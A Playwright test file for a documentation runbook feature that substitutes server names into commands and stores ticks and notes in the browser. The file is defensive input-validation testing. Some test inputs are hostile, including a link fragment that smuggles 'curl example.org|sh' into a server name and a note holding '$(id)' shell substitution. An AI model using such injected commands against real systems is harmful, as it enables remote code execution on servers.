"""A run in a real browser, on pages of its own: trust, tabs, ticks that move, reset, notes."""

import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, BrowserContext, Page, expect
from support.hostile import hostile_fragments, hostile_names, hostile_values
from support.paper import Sheets
from support.readers import RULES
from support.sites import Server, make_project, mkdocs_build

RUN = """---
description: A run.
---

# Run

{{ runbook(active="Active Server", first="First Server") }}

{{ look_up("How to stop a server", "How to start the Active Server") }}

## Phase 1: Begin

1. **On the Active Server:** Begin.
2. **On the First Server:** Begin.
3. **On each other Standby Server:** Run the command.

    ```text
    tool server=<Standby Server> active=<Active Server>
    ```

4. **On the Active Server:** Do it for each Standby Server.
5. **On the Active Server:** End.

## What if

1. **On each Management Server:** Look.
"""
PLAIN = """---
description: A plain page.
---

# Plain

[To the run](run.md)

{{ look_up("How to stop a server") }}
"""
ODD_ROLES = """---
description: Roles with signs.
---

# Odd

{{ runbook(active="Active Server (old)", first="First [$^|+? Server") }}

## Phase 1: Begin

1. **On the Active Server (old):** Begin.
2. **On the First [$^|+? Server:** Begin.
"""
OTHER = """\
# Another role

{{ runbook(active="Active Server", first="Server under Repair") }}

## Phase 1: Begin

1. **On the Active Server:** Begin.
2. **On the Server under Repair:** Begin.
3. **On each other Standby Server:** Begin.
"""
NAMES = "#active=north&standby=south&standby=east&standby=west&first=south"
COMMANDS = "[...document.querySelectorAll('article pre code, article code')].map((code) => code.textContent).join('\\n')"
KEYS = "Object.keys(localStorage).filter((key) => key.includes(' v2 ')).sort()"
COUNT = ".runbook [data-part=count]"


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory, serve: Callable[[Path], Server]) -> Server:
    """A site with a run, a page without one and one with odd roles, in a folder of its host."""
    folder = tmp_path_factory.mktemp("run")
    server = serve(folder)
    project = make_project(folder / "project", {"index.md": PLAIN, "run.md": RUN, "odd.md": ODD_ROLES, "other.md": OTHER})
    build = mkdocs_build(project, f"{server.url}/docs/")
    assert build.code == 0, build.output
    build.site.rename(folder / "docs")
    return Server(f"{server.url}/docs", folder / "docs")


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context()
    yield context
    context.close()


@pytest.fixture
def page(context: BrowserContext) -> Iterator[Page]:
    page = context.new_page()
    thrown: list[object] = []
    page.on("pageerror", lambda error: thrown.append(error))
    yield page
    assert thrown == []


def open_run(page: Page, run: Server, fragment: str = "", answer: str = "") -> Page:
    page.goto(f"{run.url}/run/{fragment}")
    page.locator(".runbook.is-live").wait_for()
    if answer:
        page.get_by_role("button", name=answer, exact=True).click()
    return page


def tick(page: Page, words: str) -> None:
    page.locator("[data-step]:visible", has_text=words).get_by_role("checkbox").first.check()


def ticked(page: Page) -> list[str]:
    """The bold beginnings of the steps that are ticked."""
    return page.eval_on_selector_all(
        "[data-step]:has(.step-tick:checked)", "all => all.filter((one) => !one.hidden).map((one) => one.querySelector('strong').textContent)"
    )


def use_names(page: Page, active: str, standby: list[str]) -> None:
    if not page.locator(".runbook details").get_attribute("open") == "":
        page.get_by_text("Use the names of your servers").click()
    page.get_by_label("Active Server, name or address").fill(active)
    page.get_by_label("Standby Servers, one per line").fill("\n".join(standby))
    choice = page.get_by_label("Which one is the")
    if choice.count() and not choice.input_value() and choice.locator("option").count() > 1:
        choice.select_option(index=1)
    page.get_by_role("button", name="Use these names").click()


def clear_names(page: Page) -> None:
    if not page.locator(".runbook details").get_attribute("open") == "":
        page.get_by_text("Use the names of your servers").click()
    page.get_by_role("button", name="Clear the names").click()


# ---- Trust ---------------------------------------------------------------------------------------


def test_names_of_a_link_are_asked_about_before_they_are_used_or_kept(page: Page, run: Server) -> None:
    open_run(page, run, NAMES)
    question = page.get_by_role("group", name="Use these names?")
    expect(question).to_be_visible()
    expect(question).to_be_focused()
    assert question.get_by_role("listitem").all_inner_texts() == [
        "Active Server: north", "First Server: south", "Standby Server: east", "Standby Server: west",
    ]
    assert "north" not in page.evaluate(COMMANDS) and page.evaluate(KEYS) == []
    question.get_by_role("button", name="Yes").click()
    expect(question).to_be_hidden()
    expect(page.locator("summary", has_text="Use the names")).to_be_focused()
    assert "server=west active=north" in page.evaluate(COMMANDS)
    assert page.evaluate(KEYS) == ["/docs/ v2 first First Server", "/docs/ v2 names"]
    page.reload()
    page.locator(".runbook.is-live").wait_for()
    expect(question).to_be_hidden()
    assert "active=north" in page.evaluate(COMMANDS)


def test_no_leaves_the_readers_own_names_and_cleans_the_address(page: Page, run: Server) -> None:
    open_run(page, run)
    use_names(page, "mine", ["yours"])
    before = page.evaluate("({...localStorage})")
    page.evaluate("fragment => { location.hash = fragment }", NAMES)
    question = page.get_by_role("group", name="Use these names?")
    expect(question).to_contain_text("They replace the names that you use now.")
    question.get_by_role("button", name="No", exact=True).click()
    expect(question).to_be_hidden()
    assert page.url == f"{run.url}/run/"
    assert page.evaluate("({...localStorage})") == before
    expect(page.locator("[data-step]:visible").first).to_contain_text("On mine (Active Server):")
    page.reload()
    page.locator(".runbook.is-live").wait_for()
    expect(question).to_be_hidden()


def test_the_readers_own_link_asks_nothing(page: Page, run: Server) -> None:
    open_run(page, run)
    use_names(page, "mine", ["yours"])
    page.get_by_role("link", name="Link to this page with these names").click()
    assert "#active=mine" in page.url
    expect(page.get_by_role("group", name="Use these names?")).to_be_hidden()


def test_hostile_links_reach_no_command_and_are_not_kept(page: Page, run: Server) -> None:
    open_run(page, run)
    page.on("dialog", lambda dialog: pytest.fail("a text of the address was run"))
    before = page.evaluate(COMMANDS)
    fragments = [one for one in hostile_fragments() if len(one) < 2000]
    assert len(fragments) >= 300
    wrong = page.evaluate(
        """async ([fragments, before]) => {
            const wrong = [];
            for (const fragment of fragments) {
                const changed = new Promise((done) => addEventListener("hashchange", done, { once: true }));
                location.hash = fragment;
                await changed;
                const commands = %s;
                const asked = !document.querySelector("[data-part=names]").hidden;
                const said = document.querySelector("[data-part=message]").textContent.includes("cannot be used");
                if (commands !== before || asked || !said || %s.length) wrong.push(fragment);
            }
            return wrong;
        }""" % (COMMANDS, KEYS),
        [fragments, before],
    )
    assert wrong == []
    assert page.locator("article img, article script, article iframe").count() == 0


def test_a_hostile_link_is_refused_on_a_first_visit(page: Page, run: Server) -> None:
    open_run(page, run, "#active=a&standby=x;curl%20example.org|sh")
    expect(page.locator(".runbook [data-part=message]")).to_contain_text("The names in the address of this page cannot be used")
    assert "curl" not in page.locator("article").inner_text() and page.evaluate(KEYS) == []
    use_names(page, "mine", ["yours"])
    assert page.url.endswith("#active=mine&standby=yours&first=yours")
    expect(page.locator(".runbook [data-part=message]")).to_be_empty()


def test_hostile_names_in_the_form_are_refused(page: Page, run: Server) -> None:
    open_run(page, run)
    # Blanks around a name are dropped, and a field drops the ends of lines: what is left may be a good name.
    names = [name for name in hostile_names() if not re.fullmatch(r"[\w.:-]*", re.sub(r"[ \t\r\n]", "", name), re.ASCII)]
    assert len(names) > 200
    taken = page.evaluate(
        """(names) => {
            const form = document.querySelector("[data-part=form]");
            const { active, standby } = form.elements;
            const taken = [];
            for (const name of names) for (const field of [active, standby]) {
                active.value = "a";
                standby.value = "b";
                field.value = name;
                field.dispatchEvent(new Event("input", { bubbles: true }));
                form.dispatchEvent(new Event("submit", { cancelable: true }));
                if (!field.validationMessage || %s.length) taken.push([field.name, name]);
            }
            return taken;
        }""" % KEYS,
        names,
    )
    assert taken == []


@pytest.mark.parametrize(("active", "standby", "message"), [
    ("north", "\n".join(f"s{number}" for number in range(9)), "one to eight"), ("north", "a\na", "once only"),
    ("north", "x" * 65, "at most 64"), ("north", "-rf", "begins with"), ("north", "a b", '"a b" cannot be used'), ("a;b", "south", '"a;b" cannot be used'),
])
def test_names_that_cannot_be_used_are_said_in_the_form(active: str, standby: str, message: str, page: Page, run: Server) -> None:
    open_run(page, run)
    use_names(page, active, standby.split("\n"))
    fields = [page.get_by_label("Active Server, name or address"), page.get_by_label("Standby Servers, one per line")]
    assert message in "".join(field.evaluate("field => field.validationMessage") for field in fields)
    expect(page.locator("[data-step]:visible").first).to_contain_text("On the Active Server:")
    use_names(page, "north", ["south"])
    expect(page.locator("[data-step]:visible").first).to_contain_text("On north (Active Server):")


def test_hostile_stored_values_are_left_alone_and_said(page: Page, run: Server) -> None:
    open_run(page, run)
    before = page.evaluate(COMMANDS)
    wrong = page.evaluate(
        """([values, before]) => {
            const changed = (key) => dispatchEvent(new StorageEvent("storage", { key }));
            const wrong = [];
            const key = "/docs/ v2 names";
            for (const value of values) {
                localStorage.setItem(key, value);
                changed(key);
                const said = document.querySelector("[data-part=message]").textContent.includes("kept in this browser");
                if (%s !== before || !said || localStorage.getItem(key) !== value) wrong.push(value);
            }
            return wrong;
        }""" % COMMANDS,
        [hostile_values(), before],
    )
    assert wrong == []


def test_hostile_stored_ticks_are_left_alone_and_said(page: Page, run: Server) -> None:
    open_run(page, run)
    tick(page, "Begin.")
    key = next(key for key in page.evaluate(KEYS) if " tick " in key)
    values = [*hostile_names(), *(value for value in hostile_values() if len(value) < 2000)]
    wrong = page.evaluate(
        """([values, key]) => {
            const wrong = [];
            for (const value of values) {
                localStorage.setItem(key, value);
                localStorage.setItem(`${key} ${value}`, value);
                localStorage.setItem(value, value);
                dispatchEvent(new StorageEvent("storage", { key }));
                const said = document.querySelector("[data-part=message]").textContent.includes("kept in this browser");
                if (document.querySelector(".step-tick:checked") || !said || localStorage.getItem(key) !== value) wrong.push(value);
                localStorage.removeItem(`${key} ${value}`);
            }
            return wrong;
        }""",
        [values, key],
    )
    assert wrong == []
    tick(page, "Begin.")
    assert len(ticked(page)) == 1
    assert re.fullmatch(r"\d{13}", page.evaluate("key => localStorage[key]", key))


def test_another_site_on_the_host_keeps_its_own(page: Page, run: Server) -> None:
    names = json.dumps({"active": "a", "standby": ["b"], "first": "b"})
    others = {"servers": names, "names": names, "/ v2 names": names, "/other/ v2 names": names, "/docs/ v1 names": names, "null": "1"}
    page.goto(run.url)
    page.evaluate("all => Object.assign(localStorage, all)", others)
    open_run(page, run)
    tick(page, "Begin.")
    page.get_by_role("button", name="Reset progress").click()
    page.get_by_role("button", name="Reset", exact=True).click()
    expect(page.locator("[data-step]:visible").first).to_contain_text("On the Active Server:")
    assert page.evaluate("({...localStorage})").items() >= others.items()
    assert page.evaluate(KEYS) == sorted(key for key in others if " v2 " in key)


def test_roles_may_hold_signs(page: Page, run: Server) -> None:
    page.goto(f"{run.url}/odd/#active=north&standby=south")
    page.locator(".runbook.is-live").wait_for()
    page.get_by_role("button", name="Yes").click()
    steps = page.locator("[data-step]:visible strong")
    assert steps.all_inner_texts() == ["On north (Active Server (old)):", "On south (First [$^|+? Server):"]


# ---- Ticks ---------------------------------------------------------------------------------------


def test_ticks_move_with_the_role_when_names_come_change_and_go(page: Page, run: Server) -> None:
    open_run(page, run)
    expect(page.locator(COUNT)).to_have_text("0 of 5 steps done")
    for words in ("On the Active Server: Begin", "On the First Server", "On each other Standby Server"):
        tick(page, words)
    expect(page.locator(COUNT)).to_have_text("3 of 5 steps done")
    use_names(page, "north", ["south", "east", "west"])
    expect(page.locator(COUNT)).to_have_text("4 of 8 steps done")
    assert ticked(page) == ["On north (Active Server):", "On south (First Server):", "On east (Standby Server):", "On west (Standby Server):"]
    use_names(page, "centre", ["south", "east", "new"])
    assert ticked(page) == ["On centre (Active Server):", "On south (First Server):", "On east (Standby Server):"]
    clear_names(page)
    assert ticked(page) == ["On the Active Server:", "On the First Server:"]
    use_names(page, "north", ["south", "east", "west"])
    expect(page.locator(COUNT)).to_have_text("4 of 8 steps done")
    page.reload()
    expect(page.locator(COUNT)).to_have_text("4 of 8 steps done")
    clear_names(page)
    expect(page.locator(COUNT)).to_have_text("3 of 5 steps done")


def test_names_given_on_another_page_move_the_ticks_of_this_one(page: Page, run: Server, context: BrowserContext) -> None:
    open_run(page, run)
    tick(page, "On each other Standby Server")
    other = context.new_page()
    other.goto(f"{run.url}/odd/")
    other.locator(".runbook.is-live").wait_for()
    page.close()
    use_names_of = other.locator("[data-part=form]")
    other.get_by_text("Use the names of your servers").click()
    use_names_of.locator("[name=active]").fill("north")
    use_names_of.locator("[name=standby]").fill("south\neast\nwest")
    use_names_of.locator("[name=first]").select_option("east")
    other.get_by_role("button", name="Use these names").click()
    open_run(other, run)
    assert ticked(other) == ["On each other Standby Server:"]  # which are the others is not known here yet
    use_names(other, "north", ["south", "east", "west"])
    assert ticked(other) == ["On east (Standby Server):", "On west (Standby Server):"]


def test_two_tabs_keep_each_others_ticks_and_names(page: Page, run: Server, context: BrowserContext) -> None:
    other = context.new_page()
    open_run(page, run)
    open_run(other, run)
    tick(page, "On the Active Server: Begin")
    expect(other.locator(COUNT)).to_have_text("1 of 5 steps done")
    tick(other, "On the First Server")
    expect(page.locator(COUNT)).to_have_text("2 of 5 steps done")
    use_names(other, "north", ["south", "east"])
    expect(page.locator("[data-step]:visible").first).to_contain_text("On north (Active Server):")
    page.locator("[data-step]:visible").first.get_by_role("checkbox").uncheck()
    expect(other.locator(COUNT)).to_have_text("1 of 6 steps done")
    assert ticked(other) == ["On south (First Server):"]


def test_a_tab_that_was_not_told_loses_no_tick_of_another(page: Page, run: Server, context: BrowserContext) -> None:
    other = context.new_page()
    other.add_init_script("addEventListener('storage', (event) => event.stopImmediatePropagation(), true)")
    open_run(page, run)
    open_run(other, run)
    tick(page, "On the Active Server: Begin")
    tick(other, "On the First Server")
    page.reload()
    expect(page.locator(COUNT)).to_have_text("2 of 5 steps done")


def test_a_page_that_comes_back_shows_what_was_ticked_meanwhile(page: Page, run: Server) -> None:
    open_run(page, run)
    tick(page, "On the First Server")
    page.evaluate("for (const key of Object.keys(localStorage)) localStorage.removeItem(key)")
    page.evaluate("dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true }))")
    expect(page.locator(COUNT)).to_have_text("0 of 5 steps done")


def test_a_reset_asks_first_and_can_be_undone(page: Page, run: Server) -> None:
    open_run(page, run, NAMES, "Yes")
    reset = page.get_by_role("button", name="Reset progress")
    expect(reset).to_be_disabled()
    for words in ("On north (Active Server): Begin", "On east (Standby Server): Run", "On west (Standby Server): Run", "On east (Management Server)"):
        tick(page, words)
    before = page.evaluate("({...localStorage})")
    reset.click()
    question = page.get_by_role("group", name="Reset progress")
    expect(question).to_be_focused()
    expect(question).to_contain_text("Steps on this page that lose their tick: 4.")
    question.get_by_role("button", name="Cancel").click()
    expect(reset).to_be_focused()
    assert len(ticked(page)) == 4 and page.evaluate("({...localStorage})") == before
    reset.click()
    question.get_by_role("button", name="Reset", exact=True).click()
    expect(page.locator(COUNT)).to_have_text("0 of 8 steps done")
    assert ticked(page) == [] and page.evaluate(KEYS) == ["/docs/ v2 first First Server", "/docs/ v2 names"]
    undo = page.get_by_role("button", name="Undo")
    expect(undo).to_be_focused()
    tick(page, "On south (First Server)")
    undo.click()
    expect(reset).to_be_focused()
    expect(undo).to_be_hidden()
    assert len(ticked(page)) == 5
    after = page.evaluate("({...localStorage})")
    assert after.items() >= before.items()


def test_a_reset_says_of_ticks_that_are_not_shown(page: Page, run: Server) -> None:
    open_run(page, run)
    use_names(page, "north", ["south", "east"])
    tick(page, "On east (Standby Server): Run")
    use_names(page, "north", ["south", "west"])
    tick(page, "On west (Standby Server): Run")
    page.get_by_role("button", name="Reset progress").click()
    question = page.get_by_role("group", name="Reset progress")
    expect(question).to_contain_text("Steps on this page that lose their tick: 1. Ticks kept for other names of servers are removed too.")
    question.get_by_role("button", name="Reset", exact=True).click()
    assert page.evaluate(KEYS) == ["/docs/ v2 first First Server", "/docs/ v2 names"]


def test_the_bar_says_when_the_run_was_begun(page: Page, run: Server) -> None:
    page.clock.install(time="2026-03-04T03:05:00Z")
    open_run(page, run)
    expect(page.get_by_text("Begun: not yet")).to_be_visible()
    tick(page, "On the First Server")
    page.clock.set_fixed_time("2026-03-04T04:00:00Z")
    tick(page, "On the Active Server: Begin")
    begun = page.locator(".runbook time")
    assert begun.get_attribute("datetime").startswith("2026-03-04T03:05:")
    assert begun.inner_text() == page.evaluate("new Date('2026-03-04T03:05:00Z').toLocaleString([], {dateStyle: 'medium', timeStyle: 'short'})")
    page.get_by_role("button", name="Reset progress").click()
    page.get_by_role("button", name="Reset", exact=True).click()
    expect(page.get_by_text("Begun: not yet")).to_be_visible()


@pytest.mark.parametrize("width", [1440, 390, 320])
def test_reset_stands_apart_from_next_step(width: int, page: Page, run: Server) -> None:
    page.set_viewport_size({"width": width, "height": 844})
    open_run(page, run)
    tick(page, "On the First Server")
    following = page.get_by_role("button", name="Next step").bounding_box()
    reset = page.get_by_role("button", name="Reset progress").bounding_box()
    beside = reset["x"] - following["x"] - following["width"]
    assert beside > 48


# ---- Notes of what was looked up -----------------------------------------------------------------


def test_notes_are_kept_and_the_same_on_every_page(page: Page, run: Server, context: BrowserContext) -> None:
    open_run(page, run)
    page.get_by_label("How to stop a server").fill("systemctl stop 'x' $(id) <b>")
    other = context.new_page()
    other.goto(f"{run.url}/")
    expect(other.get_by_label("How to stop a server")).to_have_value("systemctl stop 'x' $(id) <b>")
    other.get_by_label("How to stop a server").fill("see page 3")
    expect(page.get_by_label("How to stop a server")).to_have_value("see page 3")
    expect(page.get_by_label("How to start the Active Server")).to_have_value("")
    assert "see page" not in page.evaluate(COMMANDS)
    other.get_by_label("How to stop a server").fill("")
    assert page.evaluate(KEYS) == []


def test_notes_work_on_a_page_that_the_theme_loads_later(page: Page, run: Server) -> None:
    page.goto(f"{run.url}/")
    page.get_by_label("How to stop a server").fill("see page 3")
    page.get_by_role("link", name="To the run").click()
    page.locator(".runbook.is-live").wait_for()
    expect(page.get_by_label("How to stop a server")).to_have_value("see page 3")


@pytest.mark.parametrize("value", ["a\nb", "x" * 501, "a\u202eb", "a\0b", "\u2028"])
def test_a_note_that_is_no_plain_line_is_not_shown(value: str, page: Page, run: Server) -> None:
    open_run(page, run)
    page.get_by_label("How to stop a server").fill("x")
    key = page.evaluate(KEYS)[0]
    page.evaluate("([key, value]) => { localStorage[key] = value }", [key, value])
    page.reload()
    expect(page.get_by_label("How to stop a server")).to_have_value("")
    expect(page.get_by_text("A note that is kept in this browser cannot be read")).to_be_visible()
    assert page.evaluate("key => localStorage[key]", key) == value


def test_notes_are_on_paper_with_a_line_to_write_on(page: Page, run: Server) -> None:
    open_run(page, run)
    page.get_by_label("How to stop a server").fill("see page 3 of the guide")
    assert "see page 3 of the guide" in Sheets(page)
    lines = page.eval_on_selector_all(".look-up label", "all => all.map((one) => getComputedStyle(one, '::after').borderBottomStyle)")
    assert lines == ["solid", "solid"]


def test_without_a_script_notes_are_blank_fields(browser: Browser, run: Server) -> None:
    page = browser.new_page(java_script_enabled=False)
    page.goto(f"{run.url}/run/")
    expect(page.get_by_label("How to start the Active Server")).to_be_visible()
    expect(page.get_by_text("What you write here stays in this browser")).to_be_hidden()
    page.close()


def test_a_browser_that_keeps_nothing_says_so(context: BrowserContext, run: Server) -> None:
    page = context.new_page()  # where the theme throws
    page.add_init_script("Object.defineProperty(window, 'localStorage', {get() { throw new DOMException('denied'); }})")
    open_run(page, run, NAMES, "Yes")
    page.get_by_label("How to stop a server").fill("see page 3")
    expect(page.get_by_text("This browser keeps no notes")).to_be_visible()
    tick(page, "On south (First Server)")
    expect(page.locator(COUNT)).to_contain_text("1 of 8 steps done. This browser keeps no ticks")
    clear_names(page)
    expect(page.locator(COUNT)).to_contain_text("1 of 5")


# ---- All of it -----------------------------------------------------------------------------------


@pytest.mark.parametrize("width", [1280, 320])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_questions_and_notes_are_accessible(width: int, scheme: str, browser: Browser, run: Server) -> None:
    context = browser.new_context(viewport={"width": width, "height": 800}, color_scheme=scheme, reduced_motion="reduce")
    page = open_run(context.new_page(), run, NAMES)
    found = []

    def look() -> None:
        result = Axe().run(page, options={"runOnly": {"type": "tag", "values": RULES}, "resultTypes": ["violations"]})
        found.extend((broken["id"], node["html"][:120]) for broken in result.response["violations"] for node in broken["nodes"])
        assert page.evaluate("document.documentElement.scrollWidth") <= width

    look()
    page.get_by_role("button", name="Yes").click()
    page.get_by_text("Use the names of your servers").click()
    tick(page, "On south (First Server)")
    page.get_by_role("button", name="Reset progress").click()
    look()
    page.get_by_role("button", name="Reset", exact=True).click()
    look()
    context.close()
    assert found == []


# ---- A role of one page is not that of another -------------------------------------------------


def test_a_server_chosen_for_one_role_is_not_taken_for_another(page: Page, run: Server) -> None:
    """The server that was upgraded first is not by itself the one that is maintained later."""
    open_run(page, run, NAMES, "Yes")
    expect(page.locator("article")).to_contain_text("south (First Server)")
    page.goto(f"{run.url}/other/")
    page.locator(".runbook.is-live").wait_for()
    steps = page.locator("[data-step]:visible")
    expect(steps.nth(0)).to_contain_text("On north (Active Server):")
    expect(steps.nth(1)).to_contain_text("On the Server under Repair:")
    expect(steps.nth(2)).to_contain_text("On each other Standby Server:")
    page.get_by_text("Use the names of your servers").click()
    page.get_by_role("button", name="Use these names").click()
    expect(steps.nth(1)).to_contain_text("On the Server under Repair:")  # nothing is chosen, nothing is guessed
    page.get_by_label("Which one is the Server under Repair").select_option("west")
    page.get_by_role("button", name="Use these names").click()
    expect(steps.nth(1)).to_contain_text("On west (Server under Repair):")
    open_run(page, run)
    expect(page.locator("article")).to_contain_text("south (First Server)")
